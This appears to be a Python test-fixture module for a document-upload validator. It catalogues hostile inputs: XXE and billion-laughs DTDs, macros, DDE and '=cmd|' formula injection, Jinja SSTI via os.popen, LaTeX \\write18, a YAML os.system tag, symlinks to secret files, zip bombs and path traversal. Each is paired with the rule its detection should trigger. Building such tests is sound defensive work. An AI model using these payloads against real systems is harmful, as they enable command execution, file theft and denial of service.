"""Every attack by name: how it is laid in a contributor's folder, and what is then said of it.

`OF_FILES` can lie together in one delivery; `OF_SIZE` are those that cost time or memory.
"""

from __future__ import annotations

import os
import random
import unicodedata
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from deliveries import LESSON, form, lesson_yaml, tampered
from hostile import attacks, big
from hostile.in_kinds import KINDS, lesson_in
from hostile.outside import Outside

Make = Callable[[Outside], bytes]


@dataclass(frozen=True)
class Attack:
    """`lay` puts it in a folder; `file` is the path in there that the messages name, under the
    rules `told`. `records` says how many lessons are read all the same."""

    name: str
    file: str
    lay: Callable[[Path, Outside], object]
    told: tuple[str, ...]
    records: int = 0


def of_file(name: str, file: str, make: Make, *told: str, records: int = 0) -> Attack:
    """An attack that is one file."""
    return Attack(
        name, file, lambda folder, out: (folder / file).write_bytes(make(out)), told, records
    )


def _documents() -> Iterable[Attack]:
    for kind in ("docx", "odt", "xlsx", "ods"):
        file = f"{{}}.{kind}"
        honest, part = f"aanval.{kind}", attacks.DOCUMENTS[f"aanval.{kind}"][0]
        macro = {"docx": "word/vbaProject.bin", "xlsx": "xl/vbaProject.bin"}.get(
            kind, "Basic/Standard/Module1.xml"
        )
        for name, declare in (
            ("entiteit", '<!DOCTYPE a [<!ENTITY g SYSTEM "file://{canary}">]>'),
            ("lachbom", "<!DOCTYPE a [<!ENTITY b 'bbbb'>" + _LAUGHS + "]>"),
            ("vreemde-dtd", '<!DOCTYPE a SYSTEM "{address}/a.dtd">'),
            ("parameter", '<!DOCTYPE a [<!ENTITY % p SYSTEM "{address}/p.dtd"> %p;]>'),
        ):
            yield of_file(
                f"{name} in {kind}",
                file.format(name),
                lambda out, h=honest, p=part, d=declare: attacks.with_declaration(
                    h, p, d.replace("{canary}", str(out.canary)).replace("{address}", out.address)
                ),
                "onveilige-inhoud",
            )
        yield of_file(
            f"macros in {kind}",
            file.format("macro"),
            lambda out, h=honest, m=macro: tampered(attacks.honest(h), {m: b"<a/>"}),
            "onveilige-inhoud",
        )
        yield of_file(
            f"een pad naar buiten in {kind}",
            file.format("uitweg"),
            lambda out, h=honest: tampered(attacks.honest(h), {"../../weg.xml": b"<a/>"}),
            "onveilige-inhoud",
        )
    for kind in ("docx", "odt"):
        yield of_file(
            f"een gekoppelde afbeelding in {kind}",
            f"beeld-buiten.{kind}",
            lambda out, k=kind: attacks.with_linked_picture(f"a.{k}", f"{out.address}/b.png"),
            "afbeelding-buiten-bestand",
            records=int(kind == "docx"),
        )
        yield of_file(
            f"een afbeelding van de schijf in {kind}",
            f"beeld-schijf.{kind}",
            lambda out, k=kind: attacks.with_linked_picture(f"a.{k}", f"file://{out.canary}"),
            "afbeelding-buiten-bestand",
            records=int(kind == "docx"),
        )


_LAUGHS = "".join(
    f"<!ENTITY {new} '{8 * f'&{old};'}'>" for old, new in zip("bcdefg", "cdefgh", strict=True)
)


def _word() -> Iterable[Attack]:
    for kind in ("attachedTemplate", "image", "frame", "subDocument", "oleObject", "aFChunk"):
        yield of_file(
            f"een relatie {kind} naar buiten",
            f"relatie-{kind}.docx",
            lambda out, k=kind: attacks.with_relation(k, f"{out.address}/x"),
            "actieve-inhoud",
            records=1,
        )
    for number, code in enumerate(
        (
            'DDEAUTO sh "-c touch {marker}"',
            'INCLUDETEXT "{canary}"',
            'INCLUDEPICTURE "{address}/x.png"',
            'LINK Excel.Sheet "{canary}"',
        )
    ):
        yield of_file(
            f"een veld {code.split()[0]}",
            f"veld-{number}.docx",
            lambda out, c=code: attacks.with_field(filled_in(out, c)),
            "actieve-inhoud",
            records=1,
        )
    for number, address in enumerate(
        ("javascript:alert(1)", "data:text/html;base64,PHNj", "file://{canary}", "//evil.example/x")
    ):
        yield of_file(
            f"een koppeling {address.partition(':')[0]}",
            f"koppeling-{number}.docx",
            lambda out, a=address: attacks.with_relation("hyperlink", filled_in(out, a)),
            "onveilige-koppeling",
            records=1,
        )
    yield of_file("een archief in een archief", "nest.docx", lambda out: attacks.nested_archive(),
                  "actieve-inhoud", records=1)  # fmt: skip
    yield of_file(
        "een OLE-object",
        "ole.docx",
        lambda out: tampered(form(LESSON), {"word/embeddings/ole1.bin": b"\xd0\xcf\x11\xe0"}),
        "actieve-inhoud",
        records=1,
    )


def filled_in(out: Outside, text: str) -> str:
    """The text with the places of this world filled in."""
    pairs = {"{address}": out.address, "{canary}": str(out.canary), "{marker}": str(out.marker)}
    for name, value in pairs.items():
        text = text.replace(name, value)
    return text


def _sheets() -> Iterable[Attack]:
    for number, formula in enumerate(
        ("=cmd|'/c touch {marker}'!A0", '=WEBSERVICE("{address}")', "='file://{canary}'#$A.A1")
    ):
        yield of_file(
            f"een formule {formula[:8]}",
            f"formule-{number}.xlsx",
            lambda out, f=formula: attacks.with_formula(filled_in(out, f)),
            "formule-in-cel",
        )
    yield of_file(
        "een werkmap die gegevens ophaalt",
        "gegevens.xlsx",
        lambda out: tampered(attacks.honest("a.xlsx"), {"xl/connections.xml": b"<a/>"}),
        "actieve-inhoud",
        records=1,
    )
    dde = '<table:dde-links><table:dde-link/></table:dde-links><table:table table:name="A"/>'
    yield of_file("DDE in ods", "dde.ods", lambda out: attacks.open_document("spreadsheet", dde),
                  "actieve-inhoud")  # fmt: skip


CODES = (
    "{{ cycler.__init__.__globals__.os.popen('touch {marker}') }}",
    "{% include '{canary}' %}",
    "```{=html}\n<img src={address}/a.png>\n```",
    "`<w:altChunk/>`{=openxml}",
    '`#read("{canary}")`{=typst}',
    "<script src={address}/a.js></script>",
    "---\ntitle: Gekaapt\nheader-includes: <b>\n---",
    "Eerst.\n\n# Kop van buiten",
    "{{< include {canary} >}}",
    '#eval("sys") #read(\'{canary}\') #image("{address}/x.png")',
    "\\input{{canary}} \\write18{touch {marker}}",
    "Zie [@noot2026, p. 3] en @noot2026.",
    "Een noot.[^1] En ^[een tweede].\n\n[^1]: Onder de streep.",
    "::: {#refs .fout}\nHet blok.\n:::",
    "![beeld]({address}/b.png) ![geheim](../../../../geheim.txt)",
    "Table: een bijschrift {#tbl:x}",
    '=HYPERLINK("{address}")',
    "| a | b |\n|---|---|\n| c | d |",
)
"""Code of each language that a text passes on its way, as somebody could type it in a field."""


def _texts() -> Iterable[Attack]:
    code = f"Begin. {CODES[0]} <script src={{address}}></script> `#read(1)`{{=typst}}"
    for kind in KINDS:
        yield of_file(
            f"code in een veld van {kind}",
            f"code.{kind}",
            lambda out, k=kind: lesson_in(k, filled_in(out, code)),
            "code-in-tekst",
            records=1,
        )
    pictures = "![a](../../../../geheim.txt)\n\n![b]({canary})\n\n![c]({address}/c.png)\n"
    yield of_file(
        "afbeeldingen van elders in md",
        "elders.md",
        lambda out: filled_in(out, pictures).encode(),
        "afbeelding-buiten-bestand",
    )
    yield of_file(
        "een kop die de titel vervangt",
        "kop.md",
        lambda out: b"---\ntitle: Gekaapt\nheader-includes: <b>\n---\n\nTekst.\n",
        "niets-gelezen",
    )
    for number, (text, rule) in enumerate(
        (
            (
                "lessen: !!python/object/apply:os.system ['touch {marker}']\n",
                "niets-gelezen",
            ),
            ("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "onveilige-inhoud"),
            ("lessen:\n  - les: een\n    les: twee\n", "herhaald-veld"),
            ("a: " + "[" * 5000, "onleesbare-yaml"),
        )
    ):
        yield of_file(f"YAML {rule}", f"geval-{number}.yaml",
                      lambda out, t=text: filled_in(out, t).encode(), rule)  # fmt: skip
    yield of_file("formules in csv", "formule.csv",
                  lambda out: lesson_in("csv", filled_in(out, "=cmd|'/c touch {marker}'!A0")),
                  "code-in-tekst", records=1)  # fmt: skip


# -- names and places -----------------------------------------------------------------------------


def _names() -> Iterable[Attack]:
    for name, file, told in (
        ("een naam die een optie is", "--delete-all-output.yaml", ()),
        ("een naam met een patroon", "{edition}*?.yaml", ("onhandige-bestandsnaam",)),
        ("een naam van Windows zelf", "con.yaml", ("onhandige-bestandsnaam",)),
        ("een naam van Windows met twee punten", "nul.v2.yaml", ("onhandige-bestandsnaam",)),
        ("een naam met een spatie achteraan", "les.yaml ", ("onhandige-bestandsnaam",)),
        ("een naam met een punt achteraan", "les.yaml.", ("onhandige-bestandsnaam",)),
        ("een naam die het scherm stuurt", "a\x1b[2J\r\nb.yaml", ("onhandige-bestandsnaam",)),
        ("een naam die omkeert", "a\u202elmay.yaml", ("onhandige-bestandsnaam",)),
    ):
        read = not file.endswith((" ", "."))
        more = () if read else ("onbekend-bestandstype",)
        yield of_file(name, file, lambda out: lesson_yaml(nummer=None).encode(), *told, *more,
                      records=int(read))  # fmt: skip
    twins = [unicodedata.normalize(form, "één.yaml") for form in ("NFC", "NFD")]
    for name, first, second in (
        ("twee namen die alleen in hoofdletters schelen", "LES.yaml", "les.yaml"),
        ("dezelfde naam in twee schrijfwijzen", *sorted(twins)),
    ):
        yield Attack(name, second, _both(first, second), ("onhandige-bestandsnaam",), 2)
    yield of_file(
        "een hulpbestand van Word", "~$les.docx", lambda out: b"\x04Jan", "vergrendelbestand"
    )


def _both(first: str, second: str) -> Callable[[Path, Outside], object]:
    def lay(folder: Path, out: Outside) -> None:
        for name, text in ((first, "Een zin van de eerste."), (second, "Iets heel anders hier.")):
            (folder / name).write_text(lesson_yaml(nummer=None, les=text), encoding="utf-8")

    return lay


def _places() -> Iterable[Attack]:
    yield Attack("een koppeling naar een geheim", "geheim.md",
                 lambda folder, out: (folder / "geheim.md").symlink_to(out.canary),
                 ("snelkoppeling",))  # fmt: skip
    yield Attack("een koppeling naar een map met een geheim", "elders",
                 lambda folder, out: (folder / "elders").symlink_to(out.canary.parent),
                 ("snelkoppeling",))  # fmt: skip
    yield Attack("een koppeling naar zichzelf", "rond",
                 lambda folder, out: (folder / "rond").symlink_to("rond"),
                 ("snelkoppeling",))  # fmt: skip
    yield Attack("een koppeling naar de map erboven", "terug",
                 lambda folder, out: (folder / "terug").symlink_to(".."),
                 ("snelkoppeling",))  # fmt: skip
    yield Attack("een pijp die nooit eindigt", "pijp.md",
                 lambda folder, out: os.mkfifo(folder / "pijp.md"),
                 ("beschadigd-bestand",))  # fmt: skip


# -- size -----------------------------------------------------------------------------------------


@cache
def _words(length: int) -> str:
    """Text that packs badly, so that its ratio gives nothing away."""
    return random.Random(7714).randbytes(length // 2).hex()


def _sizes() -> Iterable[Attack]:
    yield of_file("een bom van een groot onderdeel", "groot.docx",
                  lambda out: attacks.bomb_of_size(), "te-groot")  # fmt: skip
    yield of_file("een bom van een sterk ingepakt onderdeel", "sterk.docx",
                  lambda out: attacks.bomb_of_ratio(), "te-groot")  # fmt: skip
    yield of_file("een bom van veel onderdelen", "veel.docx",
                  lambda out: attacks.bomb_of_count(), "te-groot")  # fmt: skip
    yield of_file("een bom van onderdelen in elkaar", "dubbel.docx",
                  lambda out: attacks.overlapping_bomb(), "beschadigd-bestand")  # fmt: skip
    for kind in KINDS:
        yield of_file(f"een veld van 10 MB in {kind}", f"tien.{kind}",
                      lambda out, k=kind: lesson_in(k, _words(10_000_000)), "te-groot")  # fmt: skip
    for kind, length in (("docx", 9), ("odt", 9), ("xlsx", 9), ("ods", 9)):
        yield of_file(f"een veld van {length} MB in {kind}", f"negen.{kind}",
                      lambda out, k=kind, n=length: lesson_in(k, _words(n * 1_000_000)),
                      "te-groot")  # fmt: skip
    yield from (
        Attack("10.000 bestanden", "", big.many_files, ("te-groot",), 1),
        Attack(
            "1.100 mappen in elkaar", "/".join(["m"] * 19), big.deep_folders, ("onbekende-map",)
        ),
        Attack("een bestand van 100 GB", "gat.docx", big.hole, ("te-groot",)),
    )
    for name, file, make, rule, records in big.SLOW:
        yield of_file(name, file, lambda out, m=make: m(), *rule, records=records)


OF_FILES = (*_documents(), *_word(), *_sheets(), *_texts(), *_names(), *_places())
OF_SIZE = tuple(_sizes())
